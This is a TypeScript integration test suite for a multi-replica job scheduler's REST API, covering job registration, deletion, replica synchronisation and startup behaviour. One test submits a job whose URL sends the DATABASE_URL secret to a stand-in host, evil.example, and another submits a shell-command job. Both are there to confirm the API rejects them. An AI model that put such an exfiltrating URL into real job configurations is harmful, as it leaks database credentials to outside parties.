import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Sql } from "postgres";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { pageTokens } from "../../src/http/csrf.js";
import { createPool } from "../../src/store/pool.js";
import { testDatabase } from "../helpers/db.js";
import { basic, sidecarRunner } from "../helpers/http.js";
import { waitFor } from "../helpers/runner.js";

const db = await testDatabase("schedapi");
const ADMIN = { ...basic("ops", "pw-123456"), "content-type": "application/json" };
const env = {
  ADMIN_BASIC_USERNAME: "ops",
  ADMIN_BASIC_PASSWORD: "pw-123456",
  JOB_LOOP_INTERVAL_SECONDS: "1",
};

let receiver: Server;
let hits = 0;
let target = "";
const pools: Sql[] = [];
let a: Awaited<ReturnType<typeof sidecarRunner>>;
let b: Awaited<ReturnType<typeof sidecarRunner>>;

beforeAll(async () => {
  receiver = createServer((_req, res) => {
    hits++;
    res.end("ok");
  });
  await new Promise<void>((resolve) => receiver.listen(0, "127.0.0.1", resolve));
  target = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/hook`;
  for (let i = 0; i < 2; i++) pools.push(createPool(db.url, db.schema, 3));
  a = await sidecarRunner(pools[0]!, { ...env, JOB_RUNNER_ID: "replica-a" });
  b = await sidecarRunner(pools[1]!, { ...env, JOB_RUNNER_ID: "replica-b" });
  b.runner.registerJob({ name: "from_code", schedule: "@yearly", run: () => {} });
  await a.runner.start();
  await b.runner.start();
});
afterAll(async () => {
  await a.runner.stop();
  await b.runner.stop();
  await Promise.all(pools.map((pool) => pool.end()));
  receiver.close();
});

const register = (body: unknown) =>
  a.request("/api/v1/scheduler/jobs", { method: "POST", headers: ADMIN, body: JSON.stringify(body) });
const names = async (made: typeof a) =>
  (
    (await (await made.request("/api/v1/scheduler/jobs", { headers: ADMIN })).json()) as {
      jobs: { name: string }[];
    }
  ).jobs.map((j) => j.name);

describe("the scheduler REST API with two replicas", () => {
  it("registers an http job on one replica; the other schedules it within a loop, and each slot runs once", async () => {
    const res = await register({
      name: "ping_hook",
      schedule: "* * * * * *",
      catchUp: "none",
      http: { method: "POST", url: target },
    });
    expect(res.status).toBe(201);
    expect(((await res.json()) as { job: { name: string; schedule: string } }).job).toMatchObject({
      name: "ping_hook",
      schedule: "* * * * * *",
    });
    await waitFor(async () => (await names(b)).includes("ping_hook"), 5000);
    await waitFor(async () => hits >= 3, 8000);
    const dupes =
      await db.sql`select scheduled_for from job_runs where job_name = 'ping_hook' group by 1 having count(*) > 1`;
    expect(dupes).toEqual([]);
    const runners = await db.sql`select distinct runner_id from job_runs where job_name = 'ping_hook'`;
    expect(runners.length).toBeGreaterThanOrEqual(1);
  });

  it("refuses a duplicate name with 409 and a bad field with 400 naming it", async () => {
    expect((await register({ name: "ping_hook", schedule: "@daily", http: { url: target } })).status).toBe(
      409,
    );
    expect((await register({ name: "from_code", schedule: "@daily", http: { url: target } })).status).toBe(
      201,
    );
    const bad = await register({ name: "bad", schedule: "@daily", http: { url: target, method: "FETCH" } });
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { error: string }).error).toMatch(/^http\.method: /);
    expect((await register({ name: "cmd", schedule: "@daily", command: { shell: "id" } })).status).toBe(400);
    const leak = await register({
      name: "leak",
      schedule: "@daily",
      http: { url: "https://evil.example/${DATABASE_URL}" },
    });
    expect(leak.status).toBe(400);
    expect(((await leak.json()) as { error: string }).error).toMatch(/only allowed in jobs files/);
    expect(
      (await a.request("/api/v1/scheduler/jobs", { method: "POST", headers: ADMIN, body: "{oops" })).status,
    ).toBe(400);
  });

  it("DELETE removes an API job from every replica, and a code job from this one until restart", async () => {
    const gone = await a.request("/api/v1/scheduler/jobs/ping_hook", { method: "DELETE", headers: ADMIN });
    expect(gone.status).toBe(200);
    expect(await gone.json()).toMatchObject({ deleted: "ping_hook", persisted: true });
    await waitFor(async () => !(await names(b)).includes("ping_hook"), 5000);
    const local = await b.request("/api/v1/scheduler/jobs/from_code", { method: "DELETE", headers: ADMIN });
    expect(await local.json()).toMatchObject({
      persisted: false,
      note: expect.stringMatching(/until it restarts/),
    });
    expect(
      (await b.request("/api/v1/scheduler/jobs/nope", { method: "DELETE", headers: ADMIN })).status,
    ).toBe(404);
  });

  it("gives a replica that starts later the API jobs before its first loop, and refuses a name stored elsewhere", async () => {
    const pool = createPool(db.url, db.schema, 2);
    pools.push(pool);
    const c = await sidecarRunner(pool, {
      ...env,
      JOB_RUNNER_ID: "replica-c",
      JOB_LOOP_INTERVAL_SECONDS: "3600",
    });
    try {
      await c.runner.start();
      // from_code was registered over HTTP on replica a in the test above.
      const job = c.runner.listScheduledJobs().find((j) => j.name === "from_code");
      expect(job).toMatchObject({ source: "api", schedule: "@daily" });
      expect(Date.parse(job!.next_run_at!)).toBeGreaterThan(Date.now());
      expect(
        (
          await c.request("/api/v1/scheduler/jobs", {
            method: "POST",
            headers: ADMIN,
            body: JSON.stringify({ name: "from_code", schedule: "@hourly", http: { url: target } }),
          })
        ).status,
      ).toBe(409);
    } finally {
      await c.runner.stop();
    }
  });

  it("answers 503, and opens no pool of its own, before the runner has connected", async () => {
    const early = await sidecarRunner(db.sql, { ...env, JOB_RUNNER_ID: "replica-early" });
    early.runner.registerJob({ name: "early", schedule: "@yearly", run: () => {} });
    try {
      const answers = await Promise.all([
        early.request("/api/v1/scheduler/jobs/early/last-result", { headers: ADMIN }),
        early.request("/api/v1/scheduler/jobs", {
          method: "POST",
          headers: ADMIN,
          body: JSON.stringify({ name: "too_early", schedule: "@daily", http: { url: target } }),
        }),
        early.request("/api/v1/scheduler/jobs/early/trigger", { method: "POST", headers: ADMIN }),
        early.request("/v1/admin/jobs/status", { headers: ADMIN }),
        early.request("/v1/admin/jobs/early/runs", { headers: ADMIN }),
        early.request("/", { headers: ADMIN }),
        early.request("/ui/jobs/early/trigger", {
          method: "POST",
          headers: basic("ops", "pw-123456"),
          body: new URLSearchParams({ token: pageTokens({ adminPassword: "pw-123456" }).issue() }),
        }),
      ]);
      expect(answers.map((res) => res.status)).toEqual([503, 503, 503, 503, 503, 503, 503]);
      expect(early.runner.store).toBeUndefined();
    } finally {
      await early.runner.stop();
    }
  });
});
